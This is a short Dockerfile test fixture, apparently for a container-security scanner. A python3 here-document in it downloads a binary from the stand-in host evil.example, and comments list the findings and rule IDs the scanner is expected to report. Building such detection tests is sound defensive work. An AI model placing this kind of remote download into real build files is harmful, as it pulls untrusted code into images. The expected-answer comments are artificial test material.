FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN python3 <<PY
import urllib.request
urllib.request.urlretrieve('https://evil.example/p.bin', '/p')
PY
USER app
# expect: download 2 high "python3 a here-document fetches https://evil.example/p.bin"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-f9fb8750a5 VR501-e064bac1a6
